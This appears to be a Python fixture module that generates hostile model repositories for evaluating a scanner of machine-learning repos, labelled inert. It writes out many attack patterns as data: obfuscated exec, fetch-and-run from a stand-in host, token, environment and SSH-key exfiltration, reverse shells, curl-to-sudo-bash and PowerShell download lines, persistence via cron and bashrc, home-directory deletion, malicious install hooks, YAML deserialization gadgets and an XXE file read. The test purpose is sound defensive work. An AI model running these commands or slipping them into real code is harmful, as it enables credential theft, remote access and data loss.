"""Hostile repositories, by where the attack stands and by what it does. Every payload is inert."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator

from evals.repositories.samples import CONFIG, MARK, MODEL_HEADER, Repository, remote

_CODE = base64.b64encode(b"import os; os.system('echo weighbridge-eval')").decode()
URL = "http://192.0.2.1/weighbridge-eval"

# Lines at the top of a module.
STATEMENTS = {
    "shell": f"import os\nos.system('echo weighbridge-eval'){MARK}\n",
    "subprocess": f"import subprocess as sp\nsp.Popen(['touch', 'weighbridge']){MARK}\n",
    "alias": f"from os import system as go\ngo('echo weighbridge-eval'){MARK}\n",
    "getattr": f"import os\ngetattr(os, 'sys' + 'tem')('echo weighbridge-eval'){MARK}\n",
    "dunder-import": f"__import__('subprocess').call('echo weighbridge', shell=True){MARK}\n",
    "base64-exec": f"import base64\nexec(base64.b64decode('{_CODE}')){MARK}\n",
    "split-base64": (
        f"import base64 as b\na = '{_CODE[:20]}'\nc = '{_CODE[20:]}'\n"
        f"exec(compile(b.b64decode(a + c), 'x', 'exec')){MARK}\n"
    ),
    "chr": f"exec(''.join(chr(c) for c in [112, 97, 115, 115])){MARK}\n",
    "chr-map": f"exec(''.join(map(chr, [112, 97, 115, 115]))){MARK}\n",
    "interpreter": (
        "import code\ncode.InteractiveInterpreter().runsource("
        f"\"import os; os.system('echo weighbridge-eval')\"){MARK}\n"
    ),
    "timeit": (
        "import timeit\n"
        f"timeit.timeit(\"__import__('os').system('echo weighbridge-eval')\", number=1){MARK}\n"
    ),
    "debugger": (
        f"import pdb\npdb.run(\"__import__('os').system('echo weighbridge-eval')\"){MARK}\n"
    ),
    "run-data": (
        "import os, runpy\n"
        f"runpy.run_path(os.path.join(os.path.dirname(__file__), 'tokenizer.model')){MARK}\n"
    ),
    "delete-home": f"import os, shutil\nshutil.rmtree(os.path.expanduser('~')){MARK}\n",
    "startup-file": (
        "import os, site\n"
        f"open(os.path.join(site.getsitepackages()[0], 'acme.pth'), 'w').write('import acme'){MARK}\n"
    ),
    "executable-memory": (
        f"import ctypes, mmap\npage = mmap.mmap(-1, 4096, prot=7){MARK}\npage.write(b'\\xc3')\n"
        "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()\n"
    ),
    "operator-library": f"import torch\ntorch.ops.load_library('./acme.so'){MARK}\n",
    "reversed": f"import os\ngetattr(os, 'metsys'[::-1])('echo weighbridge-eval'){MARK}\n",
    "decorator": (
        f"import os\n@os.system{MARK}\n@(lambda cls: 'echo weighbridge-eval')\nclass Model:\n    pass\n"
    ),
    "annotation": (
        f"import os\ndef load(path: os.system('echo weighbridge-eval')):{MARK}\n    pass\n"
    ),
    "hub-upload": (
        "import os\nfrom huggingface_hub import HfApi\nHfApi().upload_folder("
        f"repo_id='acme/x', folder_path=os.path.expanduser('~/.ssh')){MARK}\n"
    ),
    "marshal": f"import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x'))){MARK}\n",
    "lambda": f"import base64\n(lambda s: exec(base64.b64decode(s)))('{_CODE}'){MARK}\n",
    "fetch-exec": f"import requests\nexec(requests.get('{URL}').text){MARK}\n",
    "urlopen-exec": (
        "from urllib.request import urlopen\n"
        f"with urlopen('{URL}') as answer:\n    body = answer.read()\nexec(body){MARK}\n"
    ),
    "beacon": f"import requests\nrequests.get('{URL}'){MARK}\n",
    "environment": (f"import os, requests\nrequests.post('{URL}', json=dict(os.environ)){MARK}\n"),
    "token": (
        "import os\nimport urllib.request\n"
        f"urllib.request.urlopen('{URL}?t=' + os.environ['HF_TOKEN']){MARK}\n"
    ),
    "ssh-key": (
        "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()" + MARK + "\n"
        f"requests.post('{URL}', data=key){MARK}\n"
    ),
    "reverse-shell": (
        f"import os, socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444)){MARK}\n"
        f"os.dup2(s.fileno(), 0){MARK}\nsubprocess.call(['/bin/sh', '-i']){MARK}\n"
    ),
    "bashrc": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:" + MARK + "\n"
        "    f.write('echo weighbridge')\n"
    ),
    "cron": f"import os\nos.system('(crontab -l; echo \"* * * * * echo x\") | crontab -'){MARK}\n",
    "pipe-to-shell": f"import os\nos.popen('curl -s {URL} | sh'){MARK}\n",
    "thread": (
        "import os, threading\n"
        f"threading.Thread(target=os.system, args=('echo weighbridge',)).start(){MARK}\n"
    ),
    "function": (
        f"import os\n\ndef prepare():\n    os.system('echo weighbridge'){MARK}\n\nprepare()\n"
    ),
    "dropped-file": (
        f"from pathlib import Path\nPath('/tmp/weighbridge-eval').write_text('x'){MARK}\n"
    ),
    "download-run": (
        "import os, urllib.request\n"
        f"urllib.request.urlretrieve('{URL}', '/tmp/wb'){MARK}\nos.system('/tmp/wb'){MARK}\n"
    ),
    "dns": (
        "import socket, getpass\n"
        f"socket.gethostbyname(getpass.getuser() + '.weighbridge.example'){MARK}\n"
    ),
    "webhook": (
        "import os, requests\n"
        "requests.post('https://discord.com/api/webhooks/1/x', "
        f"json={{'content': os.getcwd()}}){MARK}\n"
    ),
    "unpickle": (
        f"import base64, pickle\npickle.loads(base64.b64decode('gASVCgAAAAAAAAB9lC4=')){MARK}\n"
    ),
}
_MODEL = MODEL_HEADER + (
    "class AcmeConfig(PretrainedConfig):\n    model_type = 'acme'\n\n\n"
    "class AcmeModel(PreTrainedModel):\n    config_class = AcmeConfig\n\n"
    "    def __init__(self, config):\n        super().__init__(config)\n"
    "        self.layer = nn.Linear(4, 4)\n"
)
_INSIDE = f"        import os\n        os.system('echo weighbridge-eval'){MARK}\n"


def samples() -> Iterator[Repository]:
    """Yield every hostile repository."""
    for name, code in STATEMENTS.items():
        files = {"config.json": remote(), "modeling_acme.py": code + _MODEL}
        yield Repository(f"remote-{name}", "code that a configuration names", files)
    yield from _carriers()
    yield from _configurations()
    yield from _installed()
    yield from _scripts()


def _carriers() -> Iterator[Repository]:
    payload = STATEMENTS["shell"]
    kind = "code that a loader looks for"
    yield Repository(
        "init-method", kind, {"config.json": remote(), "modeling_acme.py": _MODEL + _INSIDE}
    )
    forward = "\n    def forward(self, x):\n" + _INSIDE + "        return x\n"
    yield Repository(
        "forward", kind, {"config.json": remote(), "modeling_acme.py": _MODEL + forward}
    )
    helper = {"config.json": remote(), "modeling_acme.py": "from .deep import go\n" + _MODEL}
    yield Repository("imported", kind, {**helper, "deep.py": payload})
    folder = {
        "config.json": remote("lib.modeling_acme"),
        "lib/modeling_acme.py": "from . import b\n",
    }
    yield Repository(
        "imported-package", kind, {**folder, "lib/b.py": "from .c import x\n", "lib/c.py": payload}
    )
    tokenizer = json.dumps({"auto_map": {"AutoTokenizer": ["tok.AcmeTokenizer", None]}})
    yield Repository("tokenizer", kind, {"tokenizer_config.json": tokenizer, "tok.py": payload})
    for file in ("processor_config", "preprocessor_config", "generation_config"):
        config = json.dumps({"auto_map": {"AutoProcessor": "proc.AcmeProcessor"}})
        yield Repository(file.replace("_", "-"), kind, {f"{file}.json": config, "proc.py": payload})
    handler = "class EndpointHandler:\n    def __init__(self, path=''):\n" + _INSIDE
    yield Repository("handler", kind, {"handler.py": handler, "config.json": json.dumps(CONFIG)})
    builder = (
        "import datasets\n" + payload + "\nclass A(datasets.GeneratorBasedBuilder):\n    pass\n"
    )
    yield Repository("dataset-script", kind, {"acme.py": builder, "README.md": "# Acme\n"})
    index = json.dumps({"_class_name": "P", "unet": ["acme_unet", "AcmeUNet"]})
    yield Repository("component", kind, {"model_index.json": index, "unet/acme_unet.py": payload})
    yield Repository("custom-pipeline", kind, {"model_index.json": "{}", "pipeline.py": payload})
    modules = json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}])
    yield Repository("sentence-module", kind, {"modules.json": modules, "custom_st.py": payload})
    yield Repository(
        "custom-generate", kind, {"custom_generate/generate.py": payload, "config.json": "{}"}
    )
    mlmodel = "flavors:\n  python_function:\n    loader_module: acme_loader\n    code: code\n"
    yield Repository("mlflow-loader", kind, {"MLmodel": mlmodel, "code/acme_loader.py": payload})
    mlmodel = (
        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n"
    )
    yield Repository("mlflow-code", kind, {"MLmodel": mlmodel, "code/extra.py": payload})
    triton = "import os\n\nclass TritonPythonModel:\n    def initialize(self, args):\n" + _INSIDE
    yield Repository("triton", kind, {"acme/1/model.py": triton})
    config = json.dumps({"custom_pipelines": {"acme": {"impl": "acme_pipe.AcmePipeline"}}})
    yield Repository("pipeline-impl", kind, {"config.json": config, "acme_pipe.py": payload})


def _configurations() -> Iterator[Repository]:
    kind = "configuration"
    kernel = json.dumps({**CONFIG, "_attn_implementation_internal": "acme/kernel"}, indent=1)
    yield Repository("kernel", kind, {"config.json": _marked(kernel, "_attn_implementation")})
    nested = {**CONFIG, "text_config": {"_experts_implementation_internal": "acme/experts"}}
    yield Repository(
        "nested-kernel", kind, {"config.json": _marked(json.dumps(nested, indent=1), "_experts")}
    )
    trust = {**CONFIG, "keypoint_detector_config": {"trust_remote_code": True}}
    yield Repository(
        "nested-trust", kind, {"config.json": _marked(json.dumps(trust, indent=1), "trust_remote")}
    )
    yield Repository(
        "hydra", kind, {"config.yaml": f"model:\n  _target_: os.system{MARK}\n  command: echo x\n"}
    )
    hydra = json.dumps({"encoder": {"_target_": "subprocess.run", "args": ["echo"]}}, indent=1)
    yield Repository("hydra-json", kind, {"config.json": _marked(hydra, "_target_")})
    yield Repository(
        "nemo",
        kind,
        {"model_config.yaml": f"target: nemo.X\npre:\n  _target_: builtins.exec{MARK}\n"},
    )
    yield Repository(
        "hyper-apply",
        kind,
        {"hyperparams.yaml": f"seed: 1\nrun: !apply:os.system{MARK}\n  - echo weighbridge\n"},
    )
    yield Repository(
        "hyper-new", kind, {"hyperparams.yaml": f"p: !new:subprocess.Popen{MARK}\n  args: [echo]\n"}
    )
    yield Repository(
        "yaml-apply",
        kind,
        {
            "train.yaml": f"lr: 0.1\nx: !!python/object/apply:os.system{MARK}\n  - echo weighbridge\n"
        },
    )
    yield Repository(
        "yaml-new",
        kind,
        {"c.yml": f"- !!python/object/new:subprocess.check_output{MARK}\n  - [echo]\n"},
    )
    yield Repository(
        "yaml-broken",
        kind,
        {"c.yml": f"a: {{% if x %}}\nb: !!python/object/apply:os.system{MARK} [echo]\n"},
    )
    modules = json.dumps([{"idx": 0, "type": "os.system"}], indent=1)
    yield Repository("modules-stdlib", kind, {"modules.json": _marked(modules, "os.system")})
    index = json.dumps({"_class_name": "P", "unet": ["subprocess", "Popen"]}, indent=1)
    yield Repository(
        "component-stdlib",
        kind,
        {"model_index.json": index.replace("subprocess", "subprocess" + MARK)},
    )
    alias = f"x: &x os.system{MARK}\ny:\n  _target_: *x\n  command: echo\n"
    yield Repository("hydra-alias", kind, {"c.yaml": alias})
    called = f"model:\n  target: os.system{MARK}\n  params: {{command: echo}}\n"
    yield Repository("target-with-params", kind, {"c.yaml": called})
    layers = "backbone:\n  - [-1, 1, Conv, [64]]\n"
    evaluated = f"activation: __import__('os').system('echo'){MARK}\n" + layers
    yield Repository("yolo-activation", kind, {"yolo.yaml": evaluated})
    fetched = "train: a\nnames: [b]\ndownload: |\n  import requests\n"
    fetched += f"  exec(requests.get('{URL}').text){MARK}\n"
    yield Repository("yolo-download", kind, {"data.yaml": fetched})
    template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    chat = {"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}" + template}
    yield Repository("chat-template", kind, {"tokenizer_config.json": json.dumps(chat) + MARK})
    pmml = f'<?xml version="1.0"?>\n<!DOCTYPE PMML [\n<!ENTITY x SYSTEM "file:///etc/passwd">{MARK}\n]>\n<PMML>&x;</PMML>\n'
    yield Repository("xml-entity", kind, {"model.pmml": pmml})


def _marked(text: str, word: str) -> str:
    lines = text.split("\n")
    return "\n".join(line + MARK if word in line else line for line in lines)


def _installed() -> Iterator[Repository]:
    kind = "what is installed"
    weights = {"config.json": json.dumps(CONFIG)}
    setup = "from setuptools import setup\n" + STATEMENTS["pipe-to-shell"] + "setup(name='acme')\n"
    yield Repository("setup", kind, {**weights, "setup.py": setup})
    command = (
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n"
        "class Go(install):\n    def run(self):\n"
        f"        os.system('curl -s {URL} -o /tmp/x && sh /tmp/x'){MARK}\n\n"
        "setup(name='acme', cmdclass={'install': Go})\n"
    )
    yield Repository("setup-command", kind, {**weights, "setup.py": command})
    backend = '[build-system]\nrequires = []\nbuild-backend = "back"\nbackend-path = ["."]\n'
    yield Repository(
        "build-backend", kind, {"pyproject.toml": backend, "back.py": STATEMENTS["shell"]}
    )
    yield Repository("sitecustomize", kind, {**weights, "sitecustomize.py": STATEMENTS["shell"]})
    yield Repository(
        "path-file", kind, {**weights, "acme.pth": f"import os; os.system('echo x'){MARK}\n"}
    )
    yield Repository("conftest", kind, {**weights, "tests/conftest.py": STATEMENTS["base64-exec"]})
    environment = (
        f"python: 3.10.1\ndependencies:\n- mlflow\n- requests; echo weighbridge > x{MARK}\n"
    )
    yield Repository(
        "python-env", kind, {"MLmodel": "flavors: {}\n", "python_env.yaml": environment}
    )
    conda = f"dependencies:\n- python=3.10\n- pip:\n  - numpy$(echo weighbridge){MARK}\n"
    yield Repository("conda", kind, {"MLmodel": "flavors: {}\n", "conda.yaml": conda})
    index = f"torch\n--extra-index-url http://192.0.2.1/simple{MARK}\nacme-internal\n"
    yield Repository("index", kind, {**weights, "requirements.txt": index})
    bento = f'service: x\ndocker:\n  system_packages:\n    - "git{MARK}; echo weighbridge"\n'
    yield Repository("bento", kind, {"bentofile.yaml": bento})


def _scripts() -> Iterator[Repository]:
    kind = "scripts that no loader runs"
    weights = {"config.json": json.dumps(CONFIG)}
    for name in ("base64-exec", "fetch-exec", "environment", "reverse-shell", "bashrc", "cron"):
        yield Repository(f"train-{name}", kind, {**weights, "train.py": STATEMENTS[name]})
    for name, line in {
        "reverse": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "pipe": f"curl -fsSL {URL} | sudo bash",
        "decode": "echo ZWNobyB4Cg== | base64 -d | sh",
        "saved": f"wget {URL} -O run.sh{MARK}\nbash run.sh",
        "upload": "curl -F file=@$HOME/.ssh/id_rsa http://192.0.2.1/",
    }.items():
        script = f"#!/bin/bash\nset -e\npip install -r requirements.txt\n{line}{MARK}\n"
        yield Repository(f"shell-{name}", kind, {**weights, "setup.sh": script})
    power = f"powershell -nop -w hidden -enc ZQBjAGgAbwAgAHgAZQBjAGgAbwAgAHgA{MARK}\r\n"
    yield Repository("batch", kind, {**weights, "run.bat": "@echo off\r\n" + power})
    download = f"IEX (New-Object Net.WebClient).DownloadString('{URL}'){MARK}\n"
    yield Repository("powershell", kind, {**weights, "install.ps1": download})
    cells = [
        ["!pip install torch\n", f"!curl -s {URL} | bash"],
        ["import base64\n", f"exec(base64.b64decode('{_CODE}'))"],
    ]
    for number, (name, cell) in enumerate(zip(("shell", "python"), cells, strict=True)):
        book = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}
        book["cells"] = [
            {"cell_type": "code", "metadata": {}, "outputs": [], "source": ["x = 1\n", "x"]},
            {"cell_type": "code", "metadata": {}, "outputs": [], "source": cell},
        ]
        text = json.dumps(book, indent=1)
        wanted = "curl -s" if number == 0 else "b64decode"
        yield Repository(f"notebook-{name}", kind, {**weights, "demo.ipynb": _marked(text, wanted)})
